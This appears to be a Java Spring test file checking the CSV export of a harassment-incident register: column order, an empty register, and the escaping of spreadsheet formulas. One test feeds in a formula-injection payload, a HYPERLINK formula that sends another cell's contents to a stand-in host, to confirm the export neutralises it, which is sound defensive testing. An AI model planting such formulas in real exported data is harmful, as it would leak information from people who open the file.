package org.koldoo.prevention.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.Mockito.when;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.security.test.context.support.WithMockUser;

/**
 * A register's export: its own columns (never the row's id, version or who recorded it) in the
 * table's order, also when the register is still empty, and a row per entry.
 */
@WithMockUser(roles = "NATIONAL_COORDINATOR")
class RegistryCsvControllerTests extends RegistryPagesSliceTest {

  private static final List<String> COLUMNS =
      List.of("id", "incident_on", "region", "description", "version", "recorded_by");

  private List<String> lines(String path) throws Exception {
    var answer = mvc.perform(get(path)).andReturn().getResponse();
    assertThat(answer.getContentType()).startsWith("text/csv");
    return answer.getContentAsString().replace("\uFEFF", "").lines().toList();
  }

  @Test
  void an_empty_register_still_exports_its_header() throws Exception {
    when(store.columns("harassment_incident")).thenReturn(COLUMNS);
    when(store.list("harassment_incident", "1")).thenReturn(List.of());
    assertThat(lines("/rights/harassment.csv")).containsExactly("incident_on,region,description");
  }

  @Test
  void a_register_exports_a_row_per_entry_in_its_columns_order() throws Exception {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("description", "Threats after a complaint");
    row.put("id", "x");
    row.put("region", "OSH_CITY");
    row.put("incident_on", "2026-04-02");
    when(store.columns("harassment_incident")).thenReturn(COLUMNS);
    when(store.list("harassment_incident", "1")).thenReturn(List.of(row));
    assertThat(lines("/rights/harassment.csv"))
        .containsExactly(
            "incident_on,region,description", "2026-04-02,OSH_CITY,Threats after a complaint");
  }

  @Test
  void a_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() throws Exception {
    Map<String, Object> row = new LinkedHashMap<>();
    row.put("incident_on", "2026-04-02");
    row.put("region", "@SUM(1+1)");
    row.put("description", "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")");
    when(store.columns("harassment_incident")).thenReturn(COLUMNS);
    when(store.list("harassment_incident", "1")).thenReturn(List.of(row));
    assertThat(lines("/rights/harassment.csv"))
        .containsExactly(
            "incident_on,region,description",
            "2026-04-02,'@SUM(1+1),\"'=HYPERLINK(\"\"http://example.org/?\"\"&A2,\"\"open\"\")\"");
  }
}
